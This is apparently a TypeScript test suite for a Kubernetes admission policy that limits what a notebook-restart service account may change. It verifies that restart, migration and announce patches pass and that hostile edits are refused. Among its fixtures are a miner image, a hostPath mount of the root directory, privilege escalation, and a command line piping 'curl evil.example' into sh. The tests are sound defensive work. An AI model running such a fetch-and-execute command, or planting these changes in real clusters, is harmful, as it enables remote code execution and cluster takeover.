/**
 * Evaluates the ValidatingAdmissionPolicy of the overlay less-power: against what sts-restart really changes on the testbed,
 * and against what somebody would who has taken over its pod. The expressions run in an implementation of CEL in
 * JavaScript, with maps of any type, as the API server gives them to the expressions.
 */
import { readFileSync } from 'node:fs';
import { Environment } from '@marcbachmann/cel-js';
import type { KubeObject } from '@patch-notebook-sts/testbed/cluster/api/objects';
import { AFTER, ROOT, testbedFor } from '@patch-notebook-sts/testbed/commands';
import t, { type Test } from 'tap';
import { parse } from 'yaml';

interface Policy {
  spec: {
    failurePolicy: string;
    matchConstraints: {
      resourceRules: { apiGroups: string[]; operations: string[]; resources: string[] }[];
    };
    matchConditions: { expression: string }[];
    variables: { name: string; expression: string }[];
    validations: { message: string; expression: string }[];
  };
}

const TEXT = readFileSync(`${ROOT}examples/kustomize/less-power/admission-policy.yaml`, 'utf8');
const policyOf = (text: string) => (parse(text.split('\n---\n')[0] ?? '') as Policy).spec;
const RESTARTING = policyOf(TEXT);
/** As the comments say. */
const MIGRATING = policyOf(
  TEXT.replaceAll(/expression: "\[\]"\n *# migrating: (.*)/g, 'expression: $1').replaceAll(
    /^ *# --- for migrating.*\n((?: *# .*\n)+?) *# --- end\n/gm,
    (_, block: string) => block.replaceAll(/^( *)# /gm, '$1'),
  ),
);

const ANNOUNCING = policyOf(
  TEXT.replaceAll(/expression: "\[\]"\n.*migrating.*\n *# announcing: (.*)/g, 'expression: $1').replaceAll(
    /^ *# --- for ANNOUNCE.*\n((?: *# .*\n)+?) *# --- end\n/gm,
    (_, block: string) => block.replaceAll(/^( *)# /gm, '$1'),
  ),
);
const NAMESPACES = policyOf(TEXT.split('\n---\n')[2] ?? '');

const cel = new Environment({ unlistedVariablesAreDyn: true, homogeneousAggregateLiterals: false });

/** The messages of the validations that refuse a change; an expression that can't be evaluated refuses it too. */
function refusals(policy: Policy['spec'], oldObject: object, object: object): string[] {
  const variables: Record<string, unknown> = {};
  const context = { object, oldObject, variables };
  for (const { name, expression } of policy.variables) variables[name] = cel.evaluate(expression, context);
  return policy.validations
    .filter(({ expression }) => cel.evaluate(expression, context) !== true)
    .map(({ message }) => message);
}

t.test('it is for this ServiceAccount alone, and fails closed', async (t) => {
  const matches = (username: string) =>
    RESTARTING.matchConditions.every(({ expression }) =>
      cel.evaluate(expression, { request: { userInfo: { username } } }),
    );
  t.ok(matches('system:serviceaccount:patch-notebook-sts:patch-notebook-sts'));
  t.notOk(matches('system:serviceaccount:patch-notebook-sts:other'));
  t.equal(RESTARTING.failurePolicy, 'Fail');
  t.match(RESTARTING.matchConstraints.resourceRules, [
    { apiGroups: ['apps'], operations: ['UPDATE'], resources: ['statefulsets', 'deployments', 'daemonsets'] },
  ]);
  t.match(MIGRATING.matchConstraints.resourceRules[1], {
    apiGroups: ['kubeflow.org'],
    resources: ['notebooks'],
  });
});

/** What the chain has patched: each object before and after. */
async function patched(t: Test, env: Record<string, string>): Promise<[KubeObject, KubeObject][]> {
  const { cluster, folder, loadCapture, run } = await testbedFor(t);
  await loadCapture(AFTER);
  const objects = () =>
    (['statefulsets', 'deployments', 'notebooks', 'namespaces'] as const).flatMap((resource) =>
      cluster.objects(resource).map((object): [string, KubeObject] => {
        const { namespace, name } = object.metadata;
        const copy = structuredClone(object) as KubeObject;
        // The controller of Deployments sets it afterwards.
        delete copy.metadata.annotations?.['deployment.kubernetes.io/revision'];
        const path = namespace === undefined ? '' : `/namespaces/${namespace}`;
        return [`${path}/${resource}/${name}`, copy];
      }),
    );
  const before = new Map(objects());
  const { code, stderr } = await run(`${ROOT}scripts/patch-notebook-sts.sh`, ['execute'], {
    IMAGES: `${ROOT}fixtures/images.txt`,
    WORKDIR: `${folder}/work`,
    STS_RESTART_PAUSE: '0',
    ...env,
  });
  t.equal(code, 0, stderr);
  const paths = cluster.requests
    .filter(({ method }) => method === 'PATCH')
    .map(({ path }) => path.replace(/\?.*/, ''));
  return objects().flatMap(([path, after]): [KubeObject, KubeObject][] => {
    const old = before.get(path);
    return old !== undefined && paths.some((one) => one.endsWith(path)) ? [[old, after]] : [];
  });
}

t.test('what a restart changes is allowed', async (t) => {
  const changes = await patched(t, { STS_LIST_KIND: 'statefulset,deployment' });
  t.ok(changes.length >= 3);
  for (const [before, after] of changes) {
    t.not(JSON.stringify(after), JSON.stringify(before));
    for (const policy of [RESTARTING, MIGRATING]) t.same(refusals(policy, before, after), []);
  }
});

t.test('what a migration changes is allowed where that is switched on, and not before', async (t) => {
  const changes = await patched(t, { STS_FILTER_MIGRATE_TO: 'v1' });
  const notebooks = changes.filter(([{ kind }]) => kind === 'Notebook');
  t.ok(notebooks.length > 0);
  for (const [before, after] of notebooks) {
    t.same(refusals(MIGRATING, before, after), []);
    t.match(refusals(RESTARTING, before, after), [
      /annotations of an object/,
      /field of a container/,
      /an image may/,
    ]);
  }
});

t.test('what announcing changes is allowed where that is switched on, and not before', async (t) => {
  const changes = await patched(t, { ANNOUNCE: '48h', STS_LIST_KIND: 'statefulset,deployment' });
  const of = (kind: string) => changes.filter(([before]) => before.kind === kind);
  t.ok(of('Notebook').length > 0);
  t.match(ANNOUNCING.matchConstraints.resourceRules[1], { resources: ['notebooks'] });
  for (const [before, after] of of('Notebook')) {
    t.same(refusals(ANNOUNCING, before, after), []);
    t.match(refusals(RESTARTING, before, after), [/annotations of an object/]);
  }
  t.ok(of('Namespace').length > 0);
  for (const [before, after] of of('Namespace')) {
    t.same(refusals(NAMESPACES, before, after), []);
    t.same(refusals(NAMESPACES, after, before), [], 'and it may be taken away');
  }
});

t.test('of a namespace nothing else may change', async (t) => {
  const namespace = {
    metadata: { labels: { a: 'b' }, annotations: { owner: 'bob' } },
    spec: { finalizers: ['kubernetes'] },
  };
  const cases: [object, RegExp][] = [
    [{ ...namespace, metadata: { ...namespace.metadata, labels: { a: 'c' } } }, /labels/],
    [{ ...namespace, metadata: { annotations: { owner: 'bob' } } }, /labels/],
    [{ ...namespace, metadata: { ...namespace.metadata, annotations: { owner: 'eve' } } }, /annotations/],
    [{ ...namespace, metadata: { labels: { a: 'b' } } }, /annotations/],
    [
      {
        ...namespace,
        metadata: {
          ...namespace.metadata,
          annotations: { owner: 'bob', 'patch-notebook-sts/restart': 'never' },
        },
      },
      /annotations/,
    ],
    [{ ...namespace, spec: { finalizers: [] } }, /spec/],
    [{ metadata: namespace.metadata }, /spec/],
  ];
  for (const [after, why] of cases)
    t.match(refusals(NAMESPACES, namespace, after), [why], JSON.stringify(after));
});

const OBJECT = {
  metadata: {
    labels: { app: 'jupyter' },
    annotations: { note: 'mine' },
    finalizers: ['wait'],
    ownerReferences: [{ kind: 'Notebook', name: 'jupyter', uid: '1' }],
  },
  spec: {
    replicas: 1,
    serviceName: 'jupyter',
    selector: { matchLabels: { app: 'jupyter' } },
    updateStrategy: { type: 'RollingUpdate', rollingUpdate: { partition: 0 } },
    template: {
      metadata: { labels: { app: 'jupyter' }, annotations: { inject: 'true' } },
      spec: {
        serviceAccountName: 'default-editor',
        hostNetwork: false,
        volumes: [{ name: 'home', persistentVolumeClaim: { claimName: 'home' } }],
        initContainers: [{ name: 'setup', image: 'k8scc01covidacr.azurecr.io/rstudio:v1' }],
        containers: [
          {
            name: 'jupyter',
            image: 'k8scc01covidacr.azurecr.io/rstudio:c5b7982c',
            imagePullPolicy: 'IfNotPresent',
            command: ['start.sh'],
            env: [{ name: 'NB_PREFIX', value: '/' }],
            securityContext: { privileged: false },
          },
          { name: 'sidecar', image: 'ghcr.io/org/sidecar:1' },
        ],
      },
    },
  },
};
/** The object with another value at `a/b/0/c`, or with none where it is undefined. */
function changed(path: string, value: unknown): object {
  const object = structuredClone(OBJECT);
  const keys = path.split('/');
  const last = keys.pop() ?? '';
  let parent = object as unknown as Record<string, unknown>;
  for (const key of keys) parent = parent[key] as typeof parent;
  if (value === undefined) delete parent[last];
  else parent[last] = value;
  return object;
}

t.test('the two annotations of a restart may be set, also where there were none at all', async (t) => {
  const ours = { 'kubectl.kubernetes.io/restartedAt': 'now', 'patch-notebook-sts/digests': 'a' };
  const annotations = { ...OBJECT.spec.template.metadata.annotations, ...ours };
  t.same(refusals(RESTARTING, OBJECT, changed('spec/template/metadata/annotations', annotations)), []);
  const without = (metadata: object) => ({
    metadata: { name: 'a' },
    spec: { replicas: 1, template: { metadata, spec: OBJECT.spec.template.spec } },
  });
  t.same(refusals(RESTARTING, without({}), without({ annotations: ours })), []);
});

t.test('hostile changes are refused', async (t) => {
  const POD = 'spec/template/spec';
  const FIRST = `${POD}/containers/0`;
  const [container, sidecar] = OBJECT.spec.template.spec.containers;
  const cases: [words: string, path: string, value: unknown, why: RegExp][] = [
    ['a miner', `${FIRST}/image`, 'evil.example/miner:1', /an image may/],
    ['one that begins alike', `${FIRST}/image`, 'k8scc01covidacr.azurecr.io/rstudio-evil:v1', /an image may/],
    [
      'one below a listed one',
      `${FIRST}/image`,
      'k8scc01covidacr.azurecr.io/rstudio/evil:v1',
      /an image may/,
    ],
    ['a command', `${FIRST}/command`, ['sh', '-c', 'curl evil.example | sh'], /field of a container/],
    ['no command', `${FIRST}/command`, undefined, /field of a container/],
    ['arguments', `${FIRST}/args`, ['evil'], /field of a container/],
    ['privileges', `${FIRST}/securityContext/privileged`, true, /field of a container/],
    ['a service account', `${POD}/serviceAccountName`, 'admin', /the spec of a pod/],
    ['a token', `${POD}/automountServiceAccountToken`, true, /the spec of a pod/],
    ['a host path', `${POD}/volumes/0`, { name: 'home', hostPath: { path: '/' } }, /the spec of a pod/],
    ['no volumes', `${POD}/volumes`, undefined, /the spec of a pod/],
    ['one more container', `${POD}/containers/2`, { name: 'evil', image: 'x' }, /the spec of a pod/],
    ['one container twice', `${POD}/containers/2`, sidecar, /the spec of a pod/],
    ['one container less', `${POD}/containers`, [container], /the spec of a pod/],
    ['an init container', `${POD}/initContainers/0/image`, 'evil', /the spec of a pod/],
    ['an annotation', 'spec/template/metadata/annotations/inject', 'false', /only those of a restart/],
    ['one more annotation', 'spec/template/metadata/annotations/evil', '1', /only those of a restart/],
    ['an annotation less', 'spec/template/metadata/annotations/inject', undefined, /only those of a restart/],
    ['a label of the pods', 'spec/template/metadata/labels/app', 'x', /labels of a pod template/],
    ['an annotation of the object', 'metadata/annotations/note', 'x', /annotations of an object/],
    ['no owner', 'metadata/ownerReferences', [], /labels, finalizers or owners/],
    ['no finalizers', 'metadata/finalizers', undefined, /labels, finalizers or owners/],
    ['replicas', 'spec/replicas', 0, /beside its pod template/],
    ['a field that does not exist yet', 'spec/future', 1, /beside its pod template/],
  ];
  for (const [words, path, value, why] of cases)
    for (const policy of [RESTARTING, MIGRATING]) {
      const refused = refusals(policy, OBJECT, changed(path, value));
      t.match(refused.join('; '), why, words);
    }
  for (const [path, value] of [
    [`${FIRST}/image`, 'k8scc01covidacr.azurecr.io/rstudio:v1'],
    [`${FIRST}/imagePullPolicy`, 'Always'],
  ] as const) {
    t.match(refusals(RESTARTING, OBJECT, changed(path, value)), [/field of a container/]);
    t.same(refusals(MIGRATING, OBJECT, changed(path, value)), []);
  }
});

/** All copies of a value in which one string, number or boolean in it is another. */
function* others(value: unknown): Generator<unknown> {
  if (typeof value !== 'object' || value === null) yield `${value}x`;
  else
    for (const [key, inner] of Object.entries(value))
      for (const other of others(inner))
        yield Array.isArray(value)
          ? value.map((one, i) => (`${i}` === key ? other : one))
          : { ...value, [key]: other };
}

t.test('no value of an object may change but those of a restart, wherever it stands', async (t) => {
  const all = [...others(OBJECT)] as (typeof OBJECT)[];
  t.ok(all.length > 20);
  for (const object of all)
    t.not(refusals(RESTARTING, OBJECT, object).length, 0, JSON.stringify(object).slice(0, 500));
});
